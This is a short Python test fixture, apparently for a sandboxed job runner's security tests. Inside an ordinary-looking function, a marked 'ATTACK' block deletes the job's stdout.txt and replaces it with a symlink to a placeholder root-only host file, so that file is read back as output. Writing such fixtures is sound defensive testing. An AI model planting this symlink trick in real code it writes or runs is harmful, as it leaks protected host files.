# hostile jobdir_stdout_symlink_read: replace stdout.txt by a symlink to a root-only host file (read back as stdout_tail)
import numpy as np
import os


def double(x):
    # ATTACK
    open("@PWN@.marker", "w").close()
    os.remove("stdout.txt")
    os.symlink("@CANARY_FILE@", "stdout.txt")
    # END ATTACK
    return 2.0 * np.asarray(x)


def pair(a, b):
    return np.asarray(a) + b, np.asarray(a) * b


def noisy_mean(n, rng):
    return float(rng.normal(size=n).mean())


class Counter:
    def __init__(self, start):
        self.count = start

    def tick(self, k=1):
        self.count += k
        return self.count
